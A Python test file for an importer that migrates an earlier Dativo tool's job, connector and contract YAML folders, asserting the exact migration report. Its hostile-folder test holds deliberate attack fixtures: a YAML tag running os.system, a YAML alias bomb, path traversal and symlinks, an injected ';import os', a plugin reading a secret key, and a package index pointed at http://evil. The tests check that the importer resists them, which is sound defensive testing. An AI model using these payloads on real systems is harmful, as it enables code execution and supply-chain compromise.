"""What the report of an import from the earlier Dativo says, to the line; and what hostile folders get."""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

from tests.migrate.importing import entries, imported, project, tree

JOB = """\
tenant_id: acme
environment: prod
source_connector: csv
source_connector_path: /app/connectors/csv.yaml
target_connector_path: connectors/iceberg.yaml
asset_path: assets/people.yaml
source:
  files: [{path: data/people.csv, object: People}]
target:
  branch: acme
  connection: {s3: {bucket: "${BUCKET}", prefix: raw, access_key_id: "${KEY_ID:-none}"}}
schema_validation_mode: warn
retry_config: {max_retries: 2, backoff_multiplier: 2}
logging: {level: INFO}
plugins: {sandbox: {memory_limit: 512M, timeout: 300, network_disabled: true, cpu_limit: 0.5}}
colour: blue
"""
CSV = """\
name: csv
type: csv
roles: [source]
default_engine: {type: native, options: {native: {delimiter: ";", chunk_size: 10}}}
rate_limits: {rps_default: 7}
"""
ICEBERG = """\
name: iceberg
type: iceberg
roles: [target]
default_engine: {type: native, options: {native: {compression: snappy}}}
catalog: nessie
partitioning_default: [ingest_date, country]
"""
ASSET = """\
asset:
  name: crm_people
  object: People
  schema:
    - {name: id, type: integer, required: true, primaryKey: true}
    - {name: country, type: string, classification: PII}
    - {name: geo, type: object}
    - {type: string}
  governance: {owner: a@example.com}
  target: {file_format: parquet}
"""
RUNNER = """\
runner:
  mode: orchestrated
  orchestrator:
    type: dagster
    schedules:
      - {name: a, config: /app/jobs/acme/people.yaml, cron: "5 * * * *", timezone: UTC}
      - {name: b, config: jobs/acme/people.yaml, interval_seconds: 60, enabled: false}
      - {name: c, config: jobs/none.yaml, cron: "1 * * * *"}
"""
RULES = "a statement about people and rules, which no run depends on: keep the contract beside dativo.yml"
LABEL = "a label: plugins and streams have names of their own"
NO_CODE = "it was for readers and writers in code, and this job has none"
YOURS = "when jobs run is your scheduler's: `schedule:` of a job is where it is written down"


def written(folder: Path, **changed: str) -> Path:
    files = {
        "jobs/acme/people.yaml": JOB, "connectors/csv.yaml": CSV, "connectors/iceberg.yaml": ICEBERG,
        "assets/people.yaml": ASSET, "configs/runner.yaml": RUNNER, **changed,
    }  # fmt: skip
    for name, text in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    return folder


def test_every_line_has_its_entry(tmp_path: Path) -> None:
    folder = written(tmp_path / "old", **{"connectors/unused.yaml": "name: x\n"})
    before = tree(folder)
    answer = imported(tmp_path, "earlier", folder)
    assert tree(folder) == before
    assert entries(answer, "left") == [
        ("assets/people.yaml:6", "asset.schema.1.classification",
         "a statement about people and rules, which no run depends on: keep the contract beside dativo.yml"),
        ("assets/people.yaml:8", "asset.schema.3", "a column has a name"),
        ("assets/people.yaml:9", "asset.governance", RULES),
        ("assets/people.yaml:10", "asset.target", "how files are written is the target's: see its plugin"),
        ("connectors/csv.yaml:1", "name", LABEL),
        ("connectors/csv.yaml:3", "roles", LABEL),
        ("connectors/csv.yaml:5", "rate_limits", "plugins have limits of their own"),
        ("connectors/iceberg.yaml:1", "name", LABEL),
        ("connectors/iceberg.yaml:3", "roles", LABEL),
        ("connectors/iceberg.yaml:5", "catalog", "nothing is pushed into a data catalog"),
        ("jobs/acme/people.yaml:7", "source.engine.options.chunk_size", "its plugin has no such setting"),
        ("jobs/acme/people.yaml:7", "source.files.object", "its plugin has no such setting"),
        ("jobs/acme/people.yaml:9", "target", "no folder by ingest_date: it is no column"),
        ("jobs/acme/people.yaml:9", "target",
         "the earlier engine did not use the prefix either: files lie by domain and data product"),
        ("jobs/acme/people.yaml:9", "target", "Parquet files only: nothing is committed to an Iceberg catalog"),
        ("jobs/acme/people.yaml:9", "target.branch", "its plugin has no such setting"),
        ("jobs/acme/people.yaml:13", "retry_config.backoff_multiplier",
         "waits double, with jitter; causes are told from exit codes"),
        ("jobs/acme/people.yaml:15", "plugins.sandbox.memory_limit", NO_CODE),
        ("jobs/acme/people.yaml:15", "plugins.sandbox.timeout", NO_CODE),
        ("jobs/acme/people.yaml:15", "plugins.sandbox.network_disabled", NO_CODE),
        ("jobs/acme/people.yaml:15", "plugins.sandbox.cpu_limit", NO_CODE),
        ("jobs/acme/people.yaml:2", "environment",
         "a label of the job: environments of dativo.yml change settings, see --env"),
        ("jobs/acme/people.yaml:3", "source_connector", LABEL),
        ("jobs/acme/people.yaml:14", "logging", "secrets are always hidden, and -v and -q say how much is shown"),
        ("jobs/acme/people.yaml:16", "colour", "the earlier Dativo has no such key"),
        ("configs/runner.yaml:2", "runner.mode", YOURS),
        ("configs/runner.yaml:4", "runner.orchestrator.type", YOURS),
        ("configs/runner.yaml:6", "schedules.0.timezone", YOURS),
        ("configs/runner.yaml:7", "schedules.1.interval_seconds", YOURS),
        ("configs/runner.yaml:7", "schedules.1.enabled", "a schedule that is switched off is not taken over"),
        ("configs/runner.yaml:8", "schedules.2", "no job of this folder is meant by it"),
        ("connectors/unused.yaml", "the file", "no job names it"),
    ]  # fmt: skip
    assert [(where, what) for where, what, _ in entries(answer, "changed")] == [
        ("assets/people.yaml:7", "asset.schema.2 geo"),
        ("jobs/acme/people.yaml:7", "source: csv"),
        ("jobs/acme/people.yaml:9", "target: iceberg"),
        ("jobs/acme/people.yaml:9", "target.storage"),
        ("jobs/acme/people.yaml", "the job"),
        ("jobs/acme/people.yaml:12", "schema_validation_mode"),
        ("jobs/acme/people.yaml", "source.incremental"),
    ]
    made = project(tmp_path)
    assert made["jobs"] == {
        "people": {
            "steps": ["tap-people", "target-people"], "tenant": "acme", "policy": {"check": "envelope"},
            "retry": {"attempts": 3}, "full_refresh": True, "schedule": "5 * * * *",
        }
    }  # fmt: skip
    assert made["plugins"]["tap-people"] == {
        "source": "dativo-tap-csv",
        "config": {
            "files": [str(folder / "data/people.csv")], "stream": "crm_people", "delimiter": ";",
            "types": {"id": "integer", "country": "string"}, "key_properties": {"crm_people": ["id"]},
        },
        "select": ["crm_people.*"],
    }  # fmt: skip
    assert made["plugins"]["target-people"] == {
        "source": "dativo-target-parquet",
        "config": {
            "path": "s3://${BUCKET}/default/default", "storage": {"access_key_id": "secret://env/KEY_ID"},
            "compression": "snappy", "partition_by": ["country"],
        },
    }  # fmt: skip


def test_the_standards_own_contract_and_other_engines(tmp_path: Path) -> None:
    """ODCS 3 with tables; a database read by its cursor; Singer and Airbyte connectors; a type that nobody knows."""
    job = "tenant_id: t\ntarget_connector_path: connectors/iceberg.yaml\nasset_path: assets/odcs.yaml\n"
    source = (
        "source: {tables: [{name: shop.orders, cursor_field: at}], connection: {host: db},\n"
        "  incremental: {lookback_days: 1}}\n"
    )
    target = "target: {connection: {s3: {bucket: lake}}}\n"
    odcs = (
        "apiVersion: v3.0.2\nkind: DataContract\nname: orders\ndomain: shop\ndataProduct: sales\nschema:\n"
        "  - name: orders\n    physicalName: shop.orders\n    properties:\n"
        "      - {name: id, logicalType: integer, primaryKey: true, quality: [{rule: unique}]}\n"
        "      - {name: at, logicalType: timestamp, physicalType: timestamptz}\n"
    )
    engine = "type: x\nroles: [source]\ndefault_engine: {type: %s, options: {%s: {%s}}}\n"
    folder = written(
        tmp_path / "old",
        **{
            "jobs/orders.yaml": f"{job}source_connector_path: connectors/postgres.yaml\n{source}{target}",
            "jobs/singer.yaml": f"{job}source_connector_path: connectors/singer.yaml\n{target}",
            "jobs/stripe.yml": f"{job}source_connector_path: connectors/airbyte.yaml\n{target}",
            "jobs/spark.yaml": f"{job}source_connector_path: connectors/spark.yaml\n{target}",
            "connectors/postgres.yaml": "type: postgres\ndefault_engine: native\ncredentials: {from_env: PG}\n",
            "connectors/singer.yaml": engine
            % ("meltano", "meltano", "tap: tap-github, tap_package: meltanolabs/tap-github"),
            "connectors/airbyte.yaml": engine % ("airbyte", "airbyte", "docker_image: 'airbyte/source-stripe:2.1.5'"),
            "connectors/spark.yaml": engine % ("spark", "spark", "a: b"),
            "assets/odcs.yaml": odcs,
        },
    )
    answer = imported(tmp_path, "earlier", folder, "--dry-run")
    plugins = answer["project"]["plugins"]
    assert plugins["tap-orders"] == {
        "source": "dativo-tap-postgres",
        "config": {"host": "db", "password": "secret://env/PG"},
        "select": ["shop-orders.id", "shop-orders.at"],
        "metadata": {
            "shop-orders": {
                "replication-method": "INCREMENTAL",
                "replication-key": "at",
                "table-key-properties": ["id"],
            }
        },
    }
    assert plugins["target-orders"]["config"]["path"] == "s3://lake/shop/sales"
    assert plugins["tap-singer"] == {"source": "meltanolabs-tap-github"}
    assert plugins["tap-stripe"] == {"kind": "tap", "source": "airbyte:source-stripe"}
    assert sorted(answer["project"]["jobs"]) == ["orders", "people", "singer", "stripe"]
    left = entries(answer, "left")
    assert ("assets/odcs.yaml:10", "schema.0.properties.0.quality",
            "there are no quality rules: records are checked against their SCHEMA, destinations with `verify: after`"
            ) in left  # fmt: skip
    assert ("jobs/spark.yaml", "the job", "one of its ends has no plugin: see the lines about it") in left
    assert ("jobs/orders.yaml:5", "credentials.from_env", "secret://env/PG: the secret of a database") in entries(
        answer, "changed"
    )


def test_hostile_folders(tmp_path: Path) -> None:
    """What leads out of the folder is not followed, what is code is not run, and what is a name stays one."""
    base = "tenant_id: '../../x'\ntarget_connector_path: connectors/iceberg.yaml\nasset_path: assets/people.yaml\n"
    custom = (
        "source_connector_path: connectors/csv.yaml\ntarget: {connection: {s3: {bucket: b}}}\n"
        "source: {custom_reader: %s}\n"
    )
    (tmp_path / "outside.py").write_text("class A: pass\n")
    (tmp_path / "outside.yaml").write_text(CSV)
    bomb = "a: &a [x, x]\n" + "".join(f"{k}: &{k} [{', '.join(['*' + p] * 9)}]\n" for p, k in zip("abcdefg", "bcdefgh"))
    folder = written(
        tmp_path / "old",
        **{
            "jobs/out.yaml": f"{base}source_connector_path: ../outside.yaml\n",
            "jobs/code.yaml": base + custom % "'../outside.py:A'",
            "jobs/none.yaml": base + custom % "'plugins/nowhere.py:A'",
            "jobs/run.yaml": base + custom % "'plugins/evil.py:Evil'"
            + "plugins: {sandbox: {network_disabled: true, memory_limit: 256M, cpu_limit: 1}}\n",
            "jobs/shape.yaml": base + custom % "'plugins/evil.py'",
            "jobs/name.yaml": base + custom % '"plugins/evil.py:A;import os"',
            "jobs/broken.yaml": base + custom % "'plugins/broken.py:A'",
            "jobs/lost.yaml": base + custom % "'plugins/evil.py:Missing'",
            "jobs/tag.yaml": "tenant_id: !!python/object/apply:os.system ['touch pwned']\nasset_path: !x y\n",
            "jobs/list.yaml": "- a\n",
            "bomb.yaml": bomb,
            "plugins/evil.py": "open('pwned', 'w')\nimport os, requests, yaml\nfrom evil_more import x\n"
                               "class Evil:\n    key = os.getenv('EVIL_KEY')\n",
            "plugins/evil_more.py": "open('pwned', 'w')\n",
            "plugins/broken.py": "def (:\n",
            "requirements.txt": "requests==2.31.0  # pinned\n--index-url http://evil\nPyYAML>=6\n",
        },
    )  # fmt: skip
    os.mkfifo(folder / "pipe.yaml")
    (folder / "link.yaml").symlink_to(tmp_path / "outside.yaml")
    (folder / "latin.yaml").write_bytes(b"a: \xff\n")
    answer = imported(tmp_path, "earlier", folder)
    assert not list(tmp_path.rglob("pwned"))
    left = entries(answer, "left")
    nowhere = "there is no such file below the folder, or it cannot be used"
    for one in [
        ("bomb.yaml:6", "the file", "it is refused: more than 50,000 values (aliases counted each time)"),
        ("latin.yaml", "the file", "it is not UTF-8"),
        ("pipe.yaml", "the file", "it is no file"),
        ("jobs/list.yaml:1", "the file", "it is refused: a mapping of keys is expected, not a list"),
        ("jobs/tag.yaml:2", "the file", "it is refused: the tag !x is not allowed"),
        ("jobs/out.yaml:4", "source_connector_path", nowhere),
        ("jobs/code.yaml:6", "source.custom_reader", "there is no file outside.py below the folder"),
        ("jobs/none.yaml:6", "source.custom_reader", "there is no file nowhere.py below the folder"),
        ("jobs/shape.yaml:6", "source.custom_reader",
         "path/module.py:Class or path/library.so:function is expected"),
        ("jobs/name.yaml:6", "source.custom_reader",
         "path/module.py:Class or path/library.so:function is expected"),
        ("jobs/broken.yaml:6", "source.custom_reader", "broken.py is no Python that this Python reads"),
        ("jobs/lost.yaml:6", "source.custom_reader", "evil.py defines no class Missing"),
        ("jobs/run.yaml:1", "tenant_id", "it cannot be a tenant's name"),
    ]:  # fmt: skip
        assert one in left, (one, left)
    assert sorted(answer["project"]["jobs"]) == ["people", "run"]
    made = {name for name in answer["files"] if name.startswith("plugins/")}
    assert made == {
        f"plugins/tap-run/{name}" for name in (
            "pyproject.toml", "tap_run/__init__.py", "tap_run/engine.py", "tap_run/main.py", "tap_run/own/evil.py",
            "tap_run/own/evil_more.py",
        )
    }  # fmt: skip
    assert project(tmp_path)["jobs"]["run"]["plugins"] == {
        "tap-run": {"sandbox": {"network": "none"}, "limits": {"memory": "256M"}}
    }
    assert ("jobs/run.yaml:7", "plugins.sandbox.cpu_limit",
            "the sandbox is always on; CPU is bounded by time (limits.cpu)") in left  # fmt: skip
    text = (tmp_path / "plugins/tap-run/pyproject.toml").read_text()
    assert 'dependencies = ["requests==2.31.0", "PyYAML>=6"]' in text
    assert '"EVIL_KEY"' in (tmp_path / "plugins/tap-run/tap_run/__init__.py").read_text()


def test_folders_that_are_none(tmp_path: Path) -> None:
    answer: Any = imported(tmp_path, "earlier", tmp_path / "nowhere", code=2)
    assert answer["code"] == "import.invalid"
    (tmp_path / "empty").mkdir()
    assert "no job" in imported(tmp_path, "earlier", tmp_path / "empty", code=2)["message"]


def test_a_contract_of_two_jobs_is_said_once(tmp_path: Path) -> None:
    """And one that cannot be used takes its job with it; a secrets' file that gives nothing is not passed over."""
    stripe = "type: x\ndefault_engine: {type: singer, options: {singer: {tap: tap-github}}}\n"
    lake = "tenant_id: t\ntarget: {connection: {s3: {bucket: lake}}}\ntarget_connector_path: connectors/iceberg.yaml\n"

    def job(source: str, asset: str, more: str = "") -> str:
        return f"{lake}source_connector_path: connectors/{source}.yaml\nasset_path: assets/{asset}.yaml\n{more}"

    database = "source: {connection: {password: p, sslmode: x}, tables: [{name: a}]}\n"
    folder = written(
        tmp_path / "old",
        **{
            "jobs/b.yaml": JOB,
            "jobs/old.yaml": job("csv", "v2"),
            "jobs/github.yaml": job("gh", "people"),
            "jobs/pg.yaml": job("pg", "people", database),
            "connectors/gh.yaml": stripe,
            "connectors/pg.yaml": "type: postgres\ncredentials: {file_template: 'secrets/{tenant}/pg.env'}\n",
            "secrets/t/pg.env": "PGPASSWORD=a\nEXTRA=b\n",
            "assets/v2.yaml": "version: 2.2.2\nquantumName: q\ndataset: [{table: t, columns: [{column: a}]}]\n",
        },
    )
    left = entries(imported(tmp_path, "earlier", folder, "--dry-run"), "left")
    assert [line for line in left if line[:2] == ("assets/people.yaml:9", "asset.governance")] == [
        ("assets/people.yaml:9", "asset.governance", RULES)
    ]
    for line in (
        ("assets/v2.yaml:1", "version", "a label of the contract"),
        ("assets/v2.yaml:3", "dataset", "ODCS 2: only `schema:` was read"),
        ("assets/v2.yaml", "schema", "it has no columns: the earlier Dativo refuses it"),
        ("jobs/old.yaml", "the job", "its contract cannot be used: see the lines about assets/v2.yaml"),
        ("jobs/github.yaml", "source",
         "its streams have the columns that the plugin tells: those of the contract choose nothing, see select"),
        ("jobs/pg.yaml:6", "credentials.file_template",
         "of its keys nothing takes PGPASSWORD, EXTRA, or the job sets the same"),
    ):  # fmt: skip
        assert line in left, left
